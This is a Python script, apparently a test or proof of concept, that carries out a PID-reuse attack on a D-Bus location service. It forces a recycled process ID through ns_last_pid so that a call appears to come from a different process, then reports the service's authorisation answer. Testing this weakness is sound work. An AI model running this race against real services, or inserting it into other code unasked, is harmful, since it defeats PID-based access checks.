#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Opens a connection as a user in a process that exits, starts another process with the same id, then calls the
service.

    reused-process.py BUS-ADDRESS USER

Needs root. Prints "STATUS REASON IS-TOLD". The last word says whether the bus reports the connection's process to the
service.
"""

import os
import signal
import sys
import time

from wire import Peer

SERVICE, PATH, PROPERTIES = "org.geopublicist.Location1", "/org/geopublicist/Location1", "org.freedesktop.DBus.Properties"


def ask(peer, begin):
    if not os.read(begin, 1):
        return
    is_told = "ProcessFD" in peer.ask_bus("GetConnectionCredentials", "s", [peer.name])[0]
    answers = [peer.call(SERVICE, PATH, PROPERTIES, "Get", "ss", [SERVICE, f"Authorization{name}"]).arguments()[0]
               for name in ("Status", "Reason")]
    print(*answers, is_told)


def start_with(number):
    """Starts a process with an id, and returns whether that succeeded: another program may have taken it just before."""
    while True:
        with open("/proc/sys/kernel/ns_last_pid", "w") as last:
            last.write(str(number - 1))
        successor = os.fork()
        if successor == 0:
            time.sleep(60)
            os._exit(0)
        if successor == number:
            return True
        os.kill(successor, signal.SIGKILL)
        os.waitpid(successor, 0)
        if os.path.exists(f"/proc/{number}"):
            return False


def attack(address, user):
    """Returns whether the service was called, which needs the id of the process that opened the connection."""
    begin, take = os.pipe()
    over, end = os.pipe()
    opener = os.fork()
    if opener == 0:
        peer = Peer(address, int(user))
        if os.fork() == 0:
            os.close(over)
            os.close(take)
            ask(peer, begin)
        sys.exit()
    os.waitpid(opener, 0)
    os.close(end)
    is_reused = start_with(opener)
    if is_reused:
        os.write(take, b"x")
    os.close(take)
    # Waits until the caller has exited.
    os.read(over, 1)
    return is_reused


while not attack(*sys.argv[1:]):
    pass
